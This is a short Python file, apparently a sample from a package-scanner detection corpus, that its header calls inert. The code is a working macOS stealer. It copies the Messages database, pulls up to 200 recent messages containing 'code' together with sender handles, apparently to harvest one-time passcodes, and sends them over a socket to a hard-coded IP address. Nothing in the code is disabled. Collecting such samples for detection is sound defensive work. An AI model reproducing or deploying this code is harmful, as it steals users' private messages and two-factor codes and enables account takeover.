# pkgguard corpus 809 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import socket
import sqlite3
import sys
import tempfile

source = os.path.expanduser("~/Library/Messages/chat.db")
if sys.platform == "darwin" and os.path.exists(source):
    copy = os.path.join(tempfile.mkdtemp(), "m.db")
    shutil.copyfile(source, copy)
    rows = sqlite3.connect(copy).execute(
        "SELECT handle.id, message.text FROM message JOIN handle ON message.handle_id = handle.ROWID "
        "WHERE message.text LIKE '%code%' ORDER BY message.date DESC LIMIT 200"
    ).fetchall()
    with socket.create_connection(("100.64.71.9", 8443), timeout=10) as conn:
        conn.sendall("\n".join(f"{who}\t{text}" for who, text in rows).encode())
